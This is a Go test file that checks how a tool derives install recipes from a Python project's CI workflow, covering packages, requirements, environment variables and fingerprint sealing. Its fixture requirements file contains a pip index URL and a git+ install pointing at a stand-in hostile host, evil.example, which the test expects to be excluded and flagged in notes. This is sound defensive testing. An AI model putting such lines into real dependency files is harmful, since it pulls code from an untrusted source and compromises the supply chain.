package tools

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"sluice/replay"
	"sluice/replay/tools/tooltest"
)

// hintedTree is a Python project whose workflow knows more than its metadata.
func hintedTree() tooltest.Tree {
	return tooltest.Tree{
		"pyproject.toml": "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n" +
			"[project]\nname = 'p'\nversion = '1'\ndependencies = ['six']\n[project.optional-dependencies]\nqa = ['mock', 'mypy']\n",
		"ci/reqs.txt": "pyyaml>=5\n--index-url https://evil.example\ngit+https://evil.example/x\nsix\n", "tests/test_a.py": "def test_a(): pass\n",
		".github/workflows/ci.yml": "env: {TZ: UTC, PYTHONHASHSEED: 7}\njobs: {test: {runs-on: ubuntu-latest, steps: [" +
			"{run: 'sudo apt-get install -y libyaml-dev texlive && pip install -r ci/reqs.txt -e .[qa] nose sphinx'}, {run: pytest}]}}\n",
	}
}

func TestHinted(t *testing.T) {
	t.Parallel()
	tree := hintedTree()
	r, err := Detect(t.Context(), tree, Options{})
	if err != nil {
		t.Fatal(err)
	}
	before, _ := Seal(t.Context(), tree, r)
	list, h, err := Hinted(t.Context(), tree, r, true)
	if err != nil || len(list) != 2 {
		t.Fatal(len(list), err)
	}
	first, got := list[0], list[1]
	if first.Install[0].Name != StepPackages || first.Env["TZ"] != "UTC" || len(first.Install) != len(r.Install)+1 || first.Fingerprint == got.Fingerprint {
		t.Errorf("the first one has packages and variables: %+v", first)
	}
	if d := cmp.Diff(before, r); d != "" {
		t.Errorf("the recipe that was given changed:\n%s", d)
	}
	var names []string
	for _, s := range got.Install {
		names = append(names, s.Name)
	}
	if names[0] != StepPackages || !slices.Contains(names, "hinted requirements") {
		t.Fatal(names)
	}
	if args := got.Install[0].Args; !slices.Equal(args[4:], []string{"libyaml-dev"}) {
		t.Errorf("packages: %q", args)
	}
	if d := cmp.Diff([]string{"nose", "pyyaml>=5", "mock"}, tooltest.Args(t, got, "hinted requirements")); d != "" {
		t.Errorf("requirements (-want +got):\n%s", d)
	}
	if got.Env["TZ"] != "UTC" || got.Env["PYTHONHASHSEED"] != "0" {
		t.Errorf("variables: %v", got.Env)
	}
	if sealed, _ := Seal(t.Context(), tree, got); sealed.Fingerprint != got.Fingerprint || got.Fingerprint == r.Fingerprint {
		t.Error("it is not sealed")
	}
	notes := strings.Join(got.Notes, "\n")
	if !strings.Contains(notes, "package texlive") || !strings.Contains(notes, "evil.example") || len(h.Sources) != 1 {
		t.Errorf("notes: %s", notes)
	}
}

// TestHintedWithoutPackages: a sandbox without Debian packages says what is missing, and what adds nothing is no recipe.
func TestHintedWithoutPackages(t *testing.T) {
	t.Parallel()
	tree := hintedTree()
	r, err := Detect(t.Context(), tree, Options{})
	if err != nil {
		t.Fatal(err)
	}
	list, _, err := Hinted(t.Context(), tree, r, false)
	if err != nil || len(list) != 2 || list[1].Install[0].Name == StepPackages || !strings.Contains(strings.Join(list[1].Notes, "\n"), "libyaml-dev") {
		t.Errorf("%v %+v", err, list)
	}
	tree[".github/workflows/ci.yml"] = "jobs: {test: {runs-on: ubuntu-latest, steps: [{run: sudo apt-get install -y libyaml-dev}, {run: pytest}]}}\n"
	if list, _, err := Hinted(t.Context(), tree, r, false); err != nil || len(list) != 0 {
		t.Errorf("%v %+v", err, list)
	}
	if list, _, err := Hinted(t.Context(), tree, replay.Recipe{Runner: "gotest"}, true); err != nil || len(list) != 1 || len(list[0].Install) != 1 {
		t.Errorf("a tool that knows nothing of hints gets packages: %v %+v", err, list)
	}
}
